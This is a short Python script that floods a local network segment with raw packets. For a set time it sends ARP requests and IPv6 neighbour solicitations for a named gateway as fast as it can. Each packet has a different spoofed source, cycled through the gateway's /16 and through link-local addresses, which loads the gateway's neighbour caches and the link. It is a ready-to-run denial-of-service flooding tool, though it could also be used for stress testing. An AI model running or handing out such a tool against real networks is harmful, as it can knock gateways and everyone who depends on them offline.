"""Asks for the gateway from ever other sources, as fast as it can: INTERFACE SECONDS GATEWAY4 GATEWAY6.

ARP requests come from the gateway's /16, neighbour solicitations from link-local addresses.
"""
import socket
import struct
import sys
import time

interface, seconds, gateway4, gateway6 = sys.argv[1:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
own = wire.getsockname()[4]
gateway4, gateway6 = socket.inet_aton(gateway4), socket.inet_pton(socket.AF_INET6, gateway6)

group = socket.inet_pton(socket.AF_INET6, "ff02::1:ff00:0")[:13] + gateway6[13:]
arp = b"\xff" * 6 + own + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + own + gateway4[:2]
asked = b"\0" * 6 + gateway4 + b"\0" * 18
ip = b"\x33\x33" + group[12:] + own + struct.pack("!HIHBB", 0x86DD, 0x60000000, 32, 58, 255)
body = b"\0" * 4 + gateway6 + b"\x01\x01" + own
fixed = sum(struct.unpack("!32H", b"\xfe\x80" + b"\0" * 10 + group + struct.pack("!HHHH", 0, 32, 0, 58) + b"\x87\0" + body[:26]))
fixed += sum(struct.unpack("!H", body[26:]))

number = 0x0100
until = time.monotonic() + float(seconds)
while time.monotonic() < until:
    for _ in range(64):
        number = number + 1 if number < 0xEFFF else 0x0100
        try:
            wire.send(arp + struct.pack("!H", number) + asked)
            total = fixed + 1 + number
            while total >> 16:
                total = (total & 0xFFFF) + (total >> 16)
            source = b"\xfe\x80" + b"\0" * 10 + struct.pack("!HH", 1, number)
            wire.send(ip + source + group + struct.pack("!BBH", 135, 0, ~total & 0xFFFF) + body)
        except OSError:
            # There is no room in the queue.
            pass
